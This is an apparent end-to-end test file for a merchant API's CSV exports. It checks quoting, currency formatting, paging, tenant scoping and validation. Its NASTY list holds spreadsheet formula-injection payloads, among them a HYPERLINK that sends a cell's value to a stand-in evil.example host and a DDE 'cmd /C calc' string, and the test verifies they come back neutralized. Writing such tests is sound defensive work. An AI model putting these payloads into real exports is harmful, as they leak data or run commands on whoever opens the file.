// CSV exports over HTTP: orders, payments and refunds of one merchant created in
// [from, to), parsed back with csv-parse. Customer-typed text that a spreadsheet would
// evaluate (=HYPERLINK, +1, -2+3, @SUM, tab/CR-leading) comes back prefixed with a
// single quote; commas, quotes and newlines survive RFC 4180 quoting; money columns are
// integer minor units plus a decimal with the currency's exponent.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ManualClock } from '../../src/adapters/clock/clock.ts';
import { exportColumns, exportCsv } from '../../src/modules/ops/ops.exports.ts';
import { expectError, expectNo5xx, otherMerchant } from '../support/e2e.ts';
import { payOrder } from '../support/pay.ts';
import { startTestServer, type TestServer } from '../support/server.ts';

const clock = new ManualClock('2026-03-01T00:00:00Z');
let s: TestServer;
let other: Awaited<ReturnType<typeof otherMerchant>>;

const NASTY = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
  '+1',
  '-2+3',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  'Doe, "Jo"',
  'line one\nline two',
  'crlf\r\ninside',
  'Asha Rao',
];
const shown = (v: string) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);

const ids: string[] = [];
let jpyOrder: any;
let refundedOrder: any;

async function raw(path: string, key?: string) {
  const res = await fetch(`${s.base}${path}`, { headers: { authorization: `Bearer ${key ?? s.demoKey}` } });
  return { status: res.status, headers: res.headers, text: await res.text() };
}
const rows = (text: string) => parse(text, { columns: true, skip_empty_lines: false, record_delimiter: '\r\n' }) as Record<string, string>[];

beforeAll(async () => {
  s = await startTestServer({ clock });
  other = await otherMerchant(s);
  const order = async (body: Record<string, unknown>, key?: string) => {
    const r = await s.api('/v1/orders', {
      body: { payment: { method: 'payment_link' }, send: false, expires_in: 30 * 86_400, ...body },
      ...(key ? { key } : {}),
    });
    expect(r.status, JSON.stringify(r.body)).toBe(201);
    return r.body;
  };
  // Just before the range: excluded.
  clock.set('2026-02-28T23:59:59.999Z');
  await order({ customer: { wa_id: '919800000000', name: 'Before' }, currency: 'INR', items: [{ name: 'Tea', amount: 100, quantity: 1 }] });
  // Exactly at `from` (inclusive), then one a minute for each nasty string.
  clock.set('2026-03-01T00:00:00Z');
  for (const v of NASTY) {
    const o = await order({
      customer: { wa_id: '919811111111', name: v },
      currency: 'INR',
      items: [{ name: v.slice(0, 60), amount: 12_345, quantity: 2 }],
      tax: { amount: 150, description: v },
      metadata: { note: v },
    });
    ids.push(o.id);
    clock.advance(60_000);
  }
  jpyOrder = await order({ customer: { wa_id: '919822222222', name: 'Yen' }, currency: 'JPY', items: [{ name: 'Matcha', amount: 1500, quantity: 1 }] });
  ids.push(jpyOrder.id);
  refundedOrder = await order({
    customer: { wa_id: '919833333333', name: '-Refunded' },
    currency: 'INR',
    items: [{ name: 'Kettle', amount: 250_000, quantity: 1 }],
  });
  ids.push(refundedOrder.id);
  await payOrder(s, refundedOrder.payment.url, 'success');
  for (let i = 0; i < 20; i++) if ((await s.runner.runOnce(20)) === 0) break;
  for (const status of ['shipped', 'completed']) await s.api(`/v1/orders/${refundedOrder.id}/status`, { body: { status } });
  const refund = await s.api(`/v1/orders/${refundedOrder.id}/refunds`, {
    body: { amount: 1001, reason: '=HYPERLINK("http://x")' },
    headers: { 'idempotency-key': 'export-refund-1' },
  });
  expect(refund.status, JSON.stringify(refund.body)).toBe(201);
  // Another merchant's order in the same range.
  await order(
    { customer: { wa_id: '919844444444', name: 'OTHER MERCHANT' }, currency: 'INR', items: [{ name: 'Secret', amount: 999, quantity: 1 }] },
    other.key,
  );
  // Exactly at `to` (exclusive): excluded.
  clock.set('2026-03-02T00:00:00Z');
  await order({ customer: { wa_id: '919855555555', name: 'At to' }, currency: 'INR', items: [{ name: 'Tea', amount: 100, quantity: 1 }] });
}, 60_000);
afterAll(async () => {
  await s?.close();
});

describe('GET /v1/exports/orders.csv', () => {
  it('streams CSV with a download name, from inclusive and to exclusive', async () => {
    const r = await raw('/v1/exports/orders.csv?from=2026-03-01&to=2026-03-02');
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(r.headers.get('content-disposition')).toBe('attachment; filename="orders_2026-03-01_2026-03-02.csv"');
    expect(r.text.startsWith(`${exportColumns('orders').join(',')}\r\n`)).toBe(true);
    const data = rows(r.text);
    expect(data.map((d) => d.order_id)).toEqual(ids);
    expect(data[0]!.created_at).toBe('2026-03-01T00:00:00.000Z');
  });

  it('prefixes formula-like customer text with a quote and keeps commas, quotes and newlines intact', async () => {
    const data = rows((await raw('/v1/exports/orders.csv?from=2026-03-01T00:00:00Z&to=2026-03-01T00:10:00Z')).text);
    expect(data).toHaveLength(NASTY.length);
    NASTY.forEach((v, i) => {
      const d = data[i]!;
      expect(d.customer_name, JSON.stringify(v)).toBe(shown(v));
      expect(d.tax_description).toBe(shown(v));
      // JSON cells start with { or [ and carry the text exactly.
      expect(JSON.parse(d.metadata!)).toEqual({ note: v });
      expect(JSON.parse(d.items!)[0].name).toBe(v.slice(0, 60));
    });
  });

  it('quotes per RFC 4180 on the wire', async () => {
    const text = (await raw('/v1/exports/orders.csv?from=2026-03-01T00:06:00Z&to=2026-03-01T00:09:00Z')).text;
    expect(text).toContain(',"Doe, ""Jo""",');
    expect(text).toContain(',"line one\nline two",');
    expect(text).toContain(',"crlf\r\ninside",');
    expect(text.endsWith('\r\n')).toBe(true);
  });

  it('writes money as minor units and as a decimal in the currency exponent; negative-looking numbers are not mangled', async () => {
    const data = rows((await raw('/v1/exports/orders.csv?from=2026-03-01&to=2026-03-02')).text);
    const inr = data[0]!;
    expect(inr).toMatchObject({
      currency: 'INR',
      subtotal: '24690',
      subtotal_decimal: '246.90',
      tax: '150',
      tax_decimal: '1.50',
      total: '24840',
      total_decimal: '248.40',
      item_count: '2',
      amount_paid: '0',
      amount_paid_decimal: '0.00',
    });
    const jpy = data.find((d) => d.order_id === jpyOrder.id)!;
    expect(jpy).toMatchObject({ currency: 'JPY', total: '1500', total_decimal: '1500' });
    const paid = data.find((d) => d.order_id === refundedOrder.id)!;
    expect(paid).toMatchObject({ customer_name: "'-Refunded", payment_status: 'paid', amount_paid: '250000', amount_paid_decimal: '2500.00' });
  });

  it('pages through the store by (created_at, id): a tiny page size gives the same rows, even for rows of one instant', async () => {
    const http = (await raw('/v1/exports/orders.csv?from=2026-03-01&to=2026-03-02')).text;
    let paged = '';
    for await (const chunk of exportCsv(s.ctx.db, s.merchantId, 'orders', { from: new Date('2026-03-01T00:00:00Z'), to: new Date('2026-03-02T00:00:00Z') }, 2))
      paged += chunk;
    expect(paged).toBe(http);
    // Same-millisecond rows: the id breaks the tie, no row is repeated or skipped.
    await s.db.query(`update orders set created_at = '2026-03-01T00:00:00.000001Z' where merchant_id = $1 and id = any($2::text[])`, [
      s.merchantId,
      ids.slice(0, 5),
    ]);
    let tied = '';
    for await (const chunk of exportCsv(s.ctx.db, s.merchantId, 'orders', { from: new Date('2026-03-01T00:00:00Z'), to: new Date('2026-03-02T00:00:00Z') }, 2))
      tied += chunk;
    expect(
      rows(tied)
        .map((d) => d.order_id)
        .sort(),
    ).toEqual([...ids].sort());
    await s.db.query(
      `update orders set created_at = '2026-03-01T00:00:00Z'::timestamptz + (interval '1 minute' * (array_position($2::text[], id) - 1)) where merchant_id = $1 and id = any($2::text[])`,
      [s.merchantId, ids.slice(0, 5)],
    );
  });

  it('is scoped to the merchant', async () => {
    const mine = (await raw('/v1/exports/orders.csv?from=2026-03-01&to=2026-03-02')).text;
    expect(mine).not.toContain('OTHER MERCHANT');
    const theirs = rows((await raw('/v1/exports/orders.csv?from=2026-03-01&to=2026-03-02', other.key)).text);
    expect(theirs.map((d) => d.customer_name)).toEqual(['OTHER MERCHANT']);
    for (const kind of ['payments', 'refunds']) {
      const t = (await raw(`/v1/exports/${kind}.csv?from=2026-03-01&to=2026-03-02`, other.key)).text;
      expect(t).not.toContain(refundedOrder.id);
    }
  });
});

describe('payments.csv and refunds.csv', () => {
  it('lists payments with their order and neutralized customer names', async () => {
    const r = await raw('/v1/exports/payments.csv?from=2026-03-01&to=2026-03-02');
    expect(r.headers.get('content-disposition')).toBe('attachment; filename="payments_2026-03-01_2026-03-02.csv"');
    const data = rows(r.text);
    expect(data.map((d) => d.order_id)).toEqual(ids);
    expect(data[0]).toMatchObject({
      customer_name: shown(NASTY[0]!),
      amount: '24840',
      amount_decimal: '248.40',
      currency: 'INR',
      method: 'payment_link',
      provider: 'sandbox',
    });
    const paid = data.find((d) => d.order_id === refundedOrder.id)!;
    expect(paid.status).toBe('captured');
    expect(paid.captured_at).toMatch(/^2026-03-01T/);
  });

  it('lists refunds with a neutralized reason', async () => {
    const data = rows((await raw('/v1/exports/refunds.csv?from=2026-03-01&to=2026-03-02')).text);
    expect(data).toHaveLength(1);
    expect(data[0]).toMatchObject({
      order_id: refundedOrder.id,
      reason: `'=HYPERLINK("http://x")`,
      amount: '1001',
      amount_decimal: '10.01',
      currency: 'INR',
      kind: 'merchant',
      customer_name: "'-Refunded",
    });
  });

  it('an empty range is a header only', async () => {
    const r = await raw('/v1/exports/refunds.csv?from=2025-01-01&to=2025-02-01');
    expect(r.status).toBe(200);
    expect(r.text).toBe(`${exportColumns('refunds').join(',')}\r\n`);
  });
});

describe('range validation (400 in the error envelope)', () => {
  it.each([
    ['', 'from'],
    ['?from=2026-03-01', 'to'],
    ['?to=2026-03-02', 'from'],
    ['?from=yesterday&to=2026-03-02', 'from'],
    ['?from=2026-03-01T10:00:00&to=2026-03-02', 'from'],
    ['?from=2026-02-30&to=2026-03-02', 'from'],
    ['?from=2026-03-01&to=2026-13-01', 'to'],
    ['?from=2026-03-02&to=2026-03-01', 'to'],
    ['?from=2026-03-01&to=2026-03-01', 'to'],
    ['?from=2025-01-01&to=2026-03-01', 'to'],
  ])('orders.csv%s → 400 (%s)', async (qs, path) => {
    const r = await s.api(`/v1/exports/orders.csv${qs}`);
    const e = expectError(r, 400, 'validation_error');
    expect(e.details.path).toBe(path);
  });

  it('unknown parameters, unknown kinds and no key', async () => {
    expectError(await s.api('/v1/exports/orders.csv?from=2026-03-01&to=2026-03-02&merchant_id=x'), 400, 'validation_error');
    expect((await s.api('/v1/exports/customers.csv?from=2026-03-01&to=2026-03-02')).status).toBe(404);
    expectError(await s.api('/v1/exports/orders.csv?from=2026-03-01&to=2026-03-02', { key: null }), 401, 'unauthorized');
    await expectNo5xx(s);
  });
});
